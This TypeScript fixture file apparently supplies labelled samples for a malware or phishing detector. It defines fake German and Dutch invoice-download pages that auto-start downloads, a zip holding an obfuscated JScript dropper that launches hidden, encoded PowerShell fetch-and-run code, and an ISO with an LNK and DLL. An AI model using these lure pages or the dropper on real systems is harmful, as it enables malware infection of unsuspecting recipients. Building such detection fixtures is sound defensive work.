import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, pe, iso, lnk, apk, cfb } from '../parts/e-bin.js';

// Malware downloads hosted in customer folders.

export const entries: Entry[] = [
{
  id: 'zl-malware-uploads-rechnung-zip-js',
  label: 'malware',
  kind: 'customer-folder-download',
  url: 'https://elektro-maier-rosenheim.de/wp-content/uploads/2026/11/rechnung/',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Rechnung 2026-11-4471</title>
<style>body{font-family:Arial;background:#eef1f4;margin:0}.b{max-width:480px;margin:12vh auto;background:#fff;padding:30px;border-radius:6px;text-align:center}.ic{font-size:56px}</style></head>
<body><div class="b"><div class="ic">📄</div><h2>Ihre Rechnung Nr. 2026-11-4471</h2><p>Der Download startet automatisch. Falls nicht, klicken Sie <a id="l" href="Rechnung_2026-11-4471.zip">hier</a>.</p><p style="font-size:12px;color:#888">Das Dokument ist durch ein Passwort geschützt: <b>4471</b></p></div>
<script>setTimeout(function(){document.getElementById('l').click()},800)</script></body></html>`,
  routes: {
    'elektro-maier-rosenheim.de/wp-content/uploads/2026/11/rechnung/Rechnung_2026-11-4471.zip': fileRoute(zip([{ name: 'Rechnung_2026-11-4471.pdf.js', data: 'var _0x=["WScript.Shell","Run","powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"];new ActiveXObject(_0x[0])[_0x[1]](_0x[2],0);' }], { encrypted: true }), 'application/zip', 'Rechnung_2026-11-4471.zip'),
  },
},
{
  id: 'zl-malware-customer-factuur-iso',
  label: 'malware',
  kind: 'customer-folder-download',
  url: 'https://schildersbedrijf-dekker.nl/docs/factuur/download.html?id=NL-88172',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Factuur NL-88172 downloaden</title><style>body{font-family:Segoe UI,Arial;background:#f4f4f4}.c{max-width:440px;margin:100px auto;background:#fff;padding:28px;border-top:4px solid #0063b1}</style></head>
<body><div class="c"><h3>OneDrive</h3><p>Factuur_NL-88172.pdf is klaar om te downloaden.</p><p style="font-size:13px;color:#555">Als het bestand niet automatisch wordt geopend, open dan het gedownloade bestand en dubbelklik op het document.</p><a href="Factuur_NL-88172.iso" style="background:#0063b1;color:#fff;padding:10px 22px;text-decoration:none">Downloaden</a></div>
<script>var a=document.createElement('a');a.href='Factuur_NL-88172.iso';a.download='Factuur_NL-88172.iso';document.body.appendChild(a);a.click()</script></body></html>`,
  routes: {
    'schildersbedrijf-dekker.nl/docs/factuur/Factuur_NL-88172.iso': fileRoute(iso('FACTUUR', ['Factuur_NL-88172.lnk', 'data.dll']), 'application/x-iso9660-image', 'Factuur_NL-88172.iso'),
  },
},
];
